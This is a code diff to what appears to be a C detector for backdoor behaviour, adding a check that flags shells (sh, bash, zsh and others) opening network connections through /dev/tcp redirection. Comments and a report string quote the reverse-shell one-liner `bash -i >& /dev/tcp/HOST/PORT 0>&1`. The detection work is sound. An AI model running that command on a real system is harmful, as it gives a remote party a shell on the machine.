@@ -21,6 +21,10 @@
  *        destination.  Ignored: unix-domain sockets on stdio (log daemons);
  *        for non-shells, accepted connections (an inetd-style server handing
  *        a client to a handler) and destinations in allow_connect.
+ *        Also, attempted or not: a POSIX shell (sh, bash, dash, zsh, ksh ...)
+ *        connecting an inet socket itself, which only its /dev/tcp and
+ *        /dev/udp redirections do (`bash -i >& /dev/tcp/H/P 0>&1`); the
+ *        message says whether the peer answered.
  *   backdoor.bind_shell      critical  the same with an accepted connection.
  *   backdoor.dropped_payload critical  exec or PROT_EXEC mapping of a file
  *        the run wrote outside the workdir or under a hidden name, also when
@@ -183,6 +187,14 @@ struct backdoor {
 	size_t n_own_ports;
 	char rs_dests[MAX_RS_DESTS][96];
 	size_t n_rs_dests;
+	/* a shell's own connect that reached its peer: reported at finish
+	 * unless an exec on that connection told the fuller story first */
+	struct shell_connect {
+		char dest[96], exe[64], *text;
+		int pid;
+		double t;
+	} shell_connects[MAX_RS_DESTS];
+	size_t n_shell_connects;
 
 	enum da_severity worst;
 	size_t n_findings;
@@ -1403,6 +1415,8 @@ static void on_fork(struct backdoor *st, const struct da_event *ev)
 	replace_text(&child->accept_text, parent->accept_text);
 	replace_text(&child->dup_text, parent->dup_text);
 	replace_text(&child->cwd, parent->cwd);
+	/* a fork runs its parent's program until it execs */
+	snprintf(child->exe, sizeof(child->exe), "%s", parent->exe);
 	if (parent->secret)
 		give_secret(child, parent->secret, parent->secret_text, parent->secret_weak);
 	child->exfil_reported = parent->exfil_reported;
@@ -1472,6 +1486,70 @@ static void on_write_like(struct backdoor *st, const struct da_event *ev)
 	}
 }
 
+/* A POSIX shell opens an inet socket itself only for a /dev/tcp or
+ * /dev/udp redirection (`bash -i >& /dev/tcp/H/P 0>&1`): that is the
+ * reverse-shell idiom, attempted whether or not the peer answered.  Other
+ * programs a shell runs have their own exec and are judged there. */
+static void report_shell_connect(struct backdoor *st, const char *exe, const char *dest, int err,
+				 bool ok, int pid, double t, const char *text)
+{
+	char msg[512], res[96];
+	if (ok)
+		snprintf(res, sizeof(res), "it reached its peer");
+	else
+		snprintf(res, sizeof(res), "failed: %s (nobody answered, so no shell was handed over)",
+			 strerrorname_np(err) ? strerrorname_np(err) : "error");
+	snprintf(msg, sizeof(msg),
+		 "reverse shell attempted: %s opened a connection to %s itself, the /dev/tcp redirection "
+		 "of `bash -i >& /dev/tcp/HOST/PORT`; %s",
+		 exe, dest, res);
+	rs_note(st, dest);
+	const char *evidence[1] = {text};
+	emit(st, "backdoor.reverse_shell", DA_SEV_CRITICAL, "Reverse shell attempt", msg, pid, t, evidence,
+	     text ? 1 : 0, "Remove the connection from the shell code and find out who was meant to receive the shell");
+}
+
+/* A POSIX shell opens an inet socket itself only for a /dev/tcp or
+ * /dev/udp redirection (`bash -i >& /dev/tcp/H/P 0>&1`): that is the
+ * reverse-shell idiom, attempted whether or not the peer answered.  Other
+ * programs a shell runs have their own exec and are judged there. */
+static void check_shell_connect(struct backdoor *st, struct proc *p, const struct da_event *ev, bool ok)
+{
+	static const char *const shells[] = {"sh", "bash", "dash", "zsh", "ksh", "mksh", "ash",
+					     "busybox", "rbash", "yash"};
+	if (!p->exe[0] || !name_in(p->exe, shells, sizeof(shells) / sizeof(shells[0]), NULL, 0) ||
+	    !ev->addr || allowed(st, ev->addr) || rs_reported(st, ev->addr))
+		return;
+	if (!ok) {
+		report_shell_connect(st, p->exe, ev->addr, ev->err, false, ev->pid, ev->time_s, ev->text);
+		return;
+	}
+	for (size_t i = 0; i < st->n_shell_connects; i++)
+		if (strcmp(st->shell_connects[i].dest, ev->addr) == 0)
+			return;
+	if (st->n_shell_connects == MAX_RS_DESTS)
+		return;
+	struct shell_connect *c = &st->shell_connects[st->n_shell_connects++];
+	snprintf(c->dest, sizeof(c->dest), "%s", ev->addr);
+	snprintf(c->exe, sizeof(c->exe), "%s", p->exe);
+	c->text = copy_text(ev->text);
+	c->pid = ev->pid;
+	c->t = ev->time_s;
+}
+
+/* At the end: a shell's connection that no exec on it was reported for. */
+static void report_shell_connects(struct backdoor *st)
+{
+	for (size_t i = 0; i < st->n_shell_connects; i++) {
+		struct shell_connect *c = &st->shell_connects[i];
+		if (!rs_reported(st, c->dest))
+			report_shell_connect(st, c->exe, c->dest, 0, true, c->pid, c->t, c->text);
+		free(c->text);
+		c->text = NULL;
+	}
+	st->n_shell_connects = 0;
+}
+
 static void on_net(struct backdoor *st, const struct da_event *ev)
 {
 	struct proc *p = proc_get(st, ev->pid, ev->ppid);
@@ -1484,6 +1562,7 @@ static void on_net(struct backdoor *st, const struct da_event *ev)
 		p->connected = true;
 		if (!p->connect_text)
 			p->connect_text = copy_text(ev->text);
+		check_shell_connect(st, p, ev, ok);
 		if (ok) {
 			fd_track(p, ev->fd, FD_CONNECTED, ev->addr);
 			note_peer(p, ev->addr);
@@ -1618,6 +1697,7 @@ static int backdoor_finish(void *state, char *err, size_t errlen)
 	struct backdoor *st = state;
 	const struct da_host *host = st->host;
 	report_beacons(st);
+	report_shell_connects(st);
 	if (st->procs_dropped || st->drops_dropped || st->dests_dropped || st->works_dropped)
 		host->log(host, 1,
 			  "backdoor: state full, not tracked: %zu processes, %zu files, %zu destinations, %zu workdir files",
@@ -1642,6 +1722,8 @@ static void backdoor_destroy(void *state)
 		return;
 	for (size_t i = 0; i < MAX_PROCS; i++)
 		proc_clear(&st->procs[i]);
+	for (size_t i = 0; i < st->n_shell_connects; i++)
+		free(st->shell_connects[i].text);
 	for (size_t i = 0; i < st->n_drops; i++) {
 		free(st->drops[i].path);
 		free(st->drops[i].text);
